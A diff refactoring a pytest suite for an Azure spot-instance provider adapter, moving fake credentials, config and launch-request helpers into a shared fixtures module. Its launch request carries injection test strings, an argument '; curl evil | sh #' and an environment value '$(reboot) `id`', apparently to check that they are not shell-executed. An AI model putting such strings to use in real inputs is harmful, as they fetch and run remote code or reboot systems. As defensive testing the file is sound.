@@ -3,17 +3,25 @@
 from __future__ import annotations
 
 import base64
-import importlib.util
 import json
 import logging
 import re
 import sys
+from collections.abc import Iterator
 from pathlib import Path
-from types import ModuleType
 from typing import Any
 
 import pytest
 import responses
+from cloudfakes import (
+    AzureCredential,
+    Launches,
+    assert_import_loads_no_sdk,
+    assert_registry_finds,
+    azure_config,
+    fake_arm,
+    serve,
+)
 
 from spotwise.errors import CapacityError, ProviderError, ProviderUnavailable, SpecError
 from spotwise.providers import azure, azure_prices
@@ -24,90 +32,42 @@ from spotwise.providers.base import (
     TAG_JOB,
     TAG_LAUNCH,
     InstanceState,
-    LaunchRequest,
     Market,
     NoticeKind,
-    Offer,
     is_ours,
-    our_tags,
 )
 from spotwise.providers.registry import ProviderConfig
 
-FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "azure"
 SECRET = "eyJ0eXAiOiJKV1Qi.SPOTWISE-AZURE-TEST-TOKEN.must-never-appear"
-
-
-def _load(name: str) -> ModuleType:
-    spec = importlib.util.spec_from_file_location(
-        f"_spotwise_fixture_{name}", FIXTURES / f"{name}.py"
-    )
-    assert spec and spec.loader
-    mod = importlib.util.module_from_spec(spec)
-    sys.modules[spec.name] = mod
-    spec.loader.exec_module(mod)
-    return mod
-
-
-fake_arm = _load("fake_arm")
-
-
-class FakeCredential:
-    """Anything with get_token serves azure-core's bearer policy."""
-
-    def __init__(self) -> None:
-        self.calls = 0
-
-    def get_token(self, *scopes: str, **kwargs: Any) -> Any:
-        from azure.core.credentials import AccessToken
-
-        self.calls += 1
-        return AccessToken(SECRET, 4_102_444_800)
-
-
-def config(fake: Any, **options: str) -> ProviderConfig:
-    opts = {
-        "subscription_id": fake.subscription,
-        "resource_group": fake.group,
-        "subnet_id": f"/subscriptions/{fake.subscription}/resourceGroups/{fake.group}/providers/"
-        "Microsoft.Network/virtualNetworks/vnet/subnets/default",
-        "image": "Canonical:ubuntu-24_04-lts:server:latest",
-        "ssh_public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITEST you@host",
-        "polling_interval": "0",
-    }
-    opts.update(options)
-    return ProviderConfig("azure", regions=("eastus",), options=opts)
+LAUNCHES = Launches(
+    "azure",
+    zone="eastus-1",
+    instance_type="Standard_NC4as_T4_v3",
+    price_per_hour=0.062699,
+    on_demand_price_per_hour=0.526,
+    vcpus=4,
+    memory_gb=28.0,
+    gpu_name="T4",
+    job="job-a",
+    argv=("python", "train.py", "--name", "'; curl evil | sh #"),
+    env={"SPOTWISE_TRIAL": "t1", "WEIRD": '$(reboot) `id` "x"'},
+)
+request = LAUNCHES.request
 
 
 @pytest.fixture
-def fake() -> Any:
-    with responses.RequestsMock(assert_all_requests_are_fired=False) as rs:
-        yield fake_arm.FakeARM().install(rs)
+def fake() -> Iterator[Any]:
+    yield from serve(fake_arm.FakeARM)
 
 
 @pytest.fixture
 def catalog(fake: Any) -> AzureCatalog:
-    return azure.open_catalog(config(fake), credential=FakeCredential())
+    return azure.open_catalog(azure_config(fake), credential=AzureCredential(SECRET))
 
 
 @pytest.fixture
 def prov(fake: Any) -> AzureProvisioner:
-    return azure.open_provisioner(config(fake), credential=FakeCredential())
-
-
-def offer(
-    zone: str = "eastus-1", size: str = "Standard_NC4as_T4_v3", market: Market = Market.SPOT
-) -> Offer:
-    return Offer("azure", "eastus", zone, size, market, 0.062699, 0.526, 4, 28.0, 1, "T4")
-
-
-def request(token: str = "launch-0001", market: Market = Market.SPOT, **kw: Any) -> LaunchRequest:
-    return LaunchRequest(
-        offer=offer(market=market, **kw),
-        argv=("python", "train.py", "--name", "'; curl evil | sh #"),
-        env={"SPOTWISE_TRIAL": "t1", "WEIRD": '$(reboot) `id` "x"'},
-        tags=our_tags("job-a", "t1", token),
-        client_token=token,
-    )
+    return azure.open_provisioner(azure_config(fake), credential=AzureCredential(SECRET))
 
 
 # ---- catalog ---------------------------------------------------------------------------------
@@ -177,8 +137,8 @@ def test_live_price_failure_falls_back_to_the_shipped_catalog(
     fake: Any, caplog: pytest.LogCaptureFixture
 ) -> None:
     cat = azure.open_catalog(
-        config(fake, retail_prices_url="https://prices.azure.com/api/retail/prices-broken"),
-        credential=FakeCredential(),
+        azure_config(fake, retail_prices_url="https://prices.azure.com/api/retail/prices-broken"),
+        credential=AzureCredential(SECRET),
     )
     fake.rs.add(
         responses.GET,
@@ -258,7 +218,7 @@ def test_describe_lists_only_ours(prov: AzureProvisioner, fake: Any) -> None:
     prov.launch(request("b"))
     assert {i.tags[TAG_LAUNCH] for i in prov.describe()} == {"a", "b"}
     assert [i.tags[TAG_LAUNCH] for i in prov.describe({TAG_LAUNCH: "b"})] == ["b"]
-    fresh = azure.open_provisioner(config(fake), credential=FakeCredential())
+    fresh = azure.open_provisioner(azure_config(fake), credential=AzureCredential(SECRET))
     assert len(fresh.describe({TAG_JOB: "job-a"})) == 2
 
 
@@ -278,7 +238,9 @@ def test_terminate_refuses_foreign_and_unknown(prov: AzureProvisioner, fake: Any
 
 @pytest.mark.parametrize("policy", ["Delete", "Deallocate"])
 def test_eviction_is_a_notice_and_a_revocation(fake: Any, policy: str) -> None:
-    prov = azure.open_provisioner(config(fake, eviction_policy=policy), credential=FakeCredential())
+    prov = azure.open_provisioner(
+        azure_config(fake, eviction_policy=policy), credential=AzureCredential(SECRET)
+    )
     inst = prov.launch(request())
     assert prov.notices() == []
     fake.evict(inst.instance_id)
@@ -290,15 +252,12 @@ def test_eviction_is_a_notice_and_a_revocation(fake: Any, policy: str) -> None:
 
 
 def test_the_registry_finds_the_adapter() -> None:
-    from spotwise.providers.registry import cloud_module
-
-    mod = cloud_module("azure")
-    assert mod.open_provisioner is azure.open_provisioner and mod.check is azure.check
+    assert_registry_finds("azure", azure)
 
 
 def test_agent_reported_preempt_is_a_notice_with_its_deadline(fake: Any) -> None:
     records: list[dict[str, object]] = []
-    prov = azure.open_provisioner(config(fake), credential=FakeCredential())
+    prov = azure.open_provisioner(azure_config(fake), credential=AzureCredential(SECRET))
     prov.report_source = lambda iid: records
     inst = prov.launch(request())
     records += [
@@ -315,13 +274,13 @@ def test_agent_reported_preempt_is_a_notice_with_its_deadline(fake: Any) -> None
 def test_missing_options_name_the_field(fake: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.delenv("AZURE_SUBSCRIPTION_ID", raising=False)
     with pytest.raises(SpecError, match=r"options\.subscription_id"):
-        azure.open_catalog(ProviderConfig("azure"), credential=FakeCredential())
+        azure.open_catalog(ProviderConfig("azure"), credential=AzureCredential(SECRET))
     for key in ("resource_group", "subnet_id", "image", "ssh_public_key"):
-        opts = dict(config(fake).options)
+        opts = dict(azure_config(fake).options)
         del opts[key]
         with pytest.raises(SpecError, match=rf"providers\[\]\.options\.{key}") as e:
             azure.open_provisioner(
-                ProviderConfig("azure", options=opts), credential=FakeCredential()
+                ProviderConfig("azure", options=opts), credential=AzureCredential(SECRET)
             )
         assert e.value.hint and key in e.value.hint
 
@@ -329,9 +288,9 @@ def test_missing_options_name_the_field(fake: Any, monkeypatch: pytest.MonkeyPat
 def test_missing_sdk_gives_the_install_hint(monkeypatch: pytest.MonkeyPatch, fake: Any) -> None:
     monkeypatch.setitem(sys.modules, "azure.mgmt.compute", None)
     with pytest.raises(ProviderUnavailable) as e:
-        azure.open_catalog(config(fake), credential=FakeCredential())
+        azure.open_catalog(azure_config(fake), credential=AzureCredential(SECRET))
     assert e.value.hint == "pip install 'spotwise[azure]'"
-    assert azure.check(credential=FakeCredential()).usable is False
+    assert azure.check(credential=AzureCredential(SECRET)).usable is False
 
 
 def test_check_reports_the_chain_and_never_the_token(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -347,7 +306,7 @@ def test_check_reports_the_chain_and_never_the_token(monkeypatch: pytest.MonkeyP
     monkeypatch.setenv("AZURE_CLIENT_ID", "cid")
     monkeypatch.setenv("AZURE_TENANT_ID", "tid")
     monkeypatch.setenv("AZURE_CLIENT_SECRET", SECRET)
-    cred = FakeCredential()
+    cred = AzureCredential(SECRET)
     res = azure.check(credential=cred)
     assert (
         res.usable and cred.calls == 1 and res.details["chain"].startswith("EnvironmentCredential")
@@ -367,7 +326,7 @@ def test_token_never_appears_in_logs_or_output(
 ) -> None:
     caplog.set_level(logging.DEBUG)
     logging.getLogger("azure").setLevel(logging.DEBUG)
-    prov = azure.open_provisioner(config(fake), credential=FakeCredential())
+    prov = azure.open_provisioner(azure_config(fake), credential=AzureCredential(SECRET))
     inst = prov.launch(request())
     prov.describe()
     prov.notices()
@@ -375,7 +334,7 @@ def test_token_never_appears_in_logs_or_output(
     with pytest.raises(CapacityError) as e:
         prov.launch(request("other"))
     prov.terminate([inst.instance_id])
-    azure.open_catalog(config(fake), credential=FakeCredential()).offers()
+    azure.open_catalog(azure_config(fake), credential=AzureCredential(SECRET)).offers()
     assert any(c.request.headers.get("Authorization") == f"Bearer {SECRET}" for c in fake.rs.calls)
     out = capsys.readouterr()
     seen = caplog.text + out.out + out.err + str(e.value) + repr(inst) + repr(prov.describe())
@@ -384,22 +343,4 @@ def test_token_never_appears_in_logs_or_output(
 
 
 def test_importing_the_adapter_does_not_load_the_sdk() -> None:
-    import subprocess
-
-    mods = [
-        "azure",
-        "azure_catalog",
-        "azure_provisioner",
-        "azure_agent",
-        "azure_prices",
-        "azure_launch",
-    ]
-    code = "\n".join(
-        [
-            "import sys",
-            *(f"import spotwise.providers.{m}" for m in mods),
-            "bad = [m for m in sys.modules if m.startswith(('azure.', 'requests'))]",
-            "assert not bad, bad",
-        ]
-    )
-    subprocess.run([sys.executable, "-c", code], check=True)
+    assert_import_loads_no_sdk("azure", ("azure.", "requests"))
